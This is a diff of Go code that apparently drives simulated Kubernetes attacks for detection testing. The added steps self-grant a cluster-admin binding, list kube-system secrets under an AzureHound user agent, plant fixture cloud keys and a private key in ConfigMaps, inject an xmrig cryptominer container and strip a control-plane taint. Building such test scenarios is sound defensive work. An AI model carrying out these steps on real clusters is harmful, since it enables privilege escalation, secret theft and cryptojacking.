+	_, err = d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "ci-deployer-admin", "--type=merge", "-p", `{"subjects":[`+me+`]}`)
 	return err
 }
 
@@ -1403,7 +1594,17 @@ func runOffensiveUA(d *Driver) error {
 	if _, err := p.CoreV1().Pods("").List(d.Ctx, metav1.ListOptions{}); err != nil {
 		return err
 	}
-	_, err = p.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{})
+	if _, err = p.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{}); err != nil {
+		return err
+	}
+	h, err := d.backdoor(uaAzureHound)
+	if err != nil {
+		return err
+	}
+	if _, err := h.CoreV1().Namespaces().List(d.Ctx, metav1.ListOptions{}); err != nil {
+		return err
+	}
+	_, err = h.CoreV1().Nodes().List(d.Ctx, metav1.ListOptions{})
 	return err
 }
 
@@ -1455,13 +1656,42 @@ data:
   AWS_SECRET_ACCESS_KEY: fixtureSecretAccessKeyNotReal0000000000
   DATABASE_URL: postgres://ledger:fixture-db-password@ledger-db.payments:5432/ledger
 `
-	return d.Apply(Alice, m)
+	if err := d.Apply(Alice, m); err != nil {
+		return err
+	}
+	// Credentials inside values whose keys say nothing: a properties file, a JDBC URL, a
+	// PEM block (fixture values, not keys of anything).
+	m2 := `apiVersion: v1
+kind: ConfigMap
+metadata: {name: billing-app, namespace: team-a}
+data:
+  application.properties: |
+    billing.region=eu-west-1
+    aws.accessKeyId=AKIAFIXTURE1EXAMPLE1
+    aws.secretKey=fixtureSecretKeyNotReal1111111111111111
+  datasource: jdbc:postgresql://ledger-db.payments:5432/ledger?user=billing&password=fixture-jdbc-password
+  bundle: |
+    -----BEGIN PRIVATE KEY-----
+    Zml4dHVyZS1ub3QtYS1yZWFsLWtleS1maXh0dXJlLW5vdC1hLXJlYWwta2V5LWZpeHR1cmU=
+    -----END PRIVATE KEY-----
+`
+	return d.Apply(Alice, m2)
 }
 
 func runInjectContainer(d *Driver) error {
 	d.Caused("team-a", "shop")
 	p := `{"spec":{"template":{"spec":{"containers":[{"name":"metrics","image":"docker.io/xmrig/xmrig:6.22.2","args":["-o","pool.example.net:3333"]}]}}}}`
 	_, err := d.Kubectl(Alice, "", "patch", "deployment", "shop", "-n", "team-a", "--type=strategic", "-p", p)
+	return err
+}
+
+func runTaintRemoved(d *Driver) error {
+	const taint = "node-role.kubernetes.io/control-plane:NoSchedule"
+	if _, err := d.Kubectl(CIDeployer, "", "taint", "nodes", "cp-1", taint+"-"); err != nil {
+		return err
+	}
+	time.Sleep(time.Second)
+	_, err := d.Kubectl(CIDeployer, "", "taint", "nodes", "cp-1", taint)
 	return err
 }
 
